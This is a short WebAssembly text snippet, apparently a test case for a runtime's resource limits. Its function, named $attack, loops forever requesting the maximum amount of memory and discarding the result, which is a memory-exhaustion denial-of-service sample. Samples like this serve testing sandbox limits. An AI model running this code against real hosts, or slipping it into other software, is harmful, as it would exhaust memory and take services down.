;; Asks for all memory that there could be, again and again.
;; @main
(func $attack (loop $again (drop (memory.grow (i32.const 65535))) (br $again)))
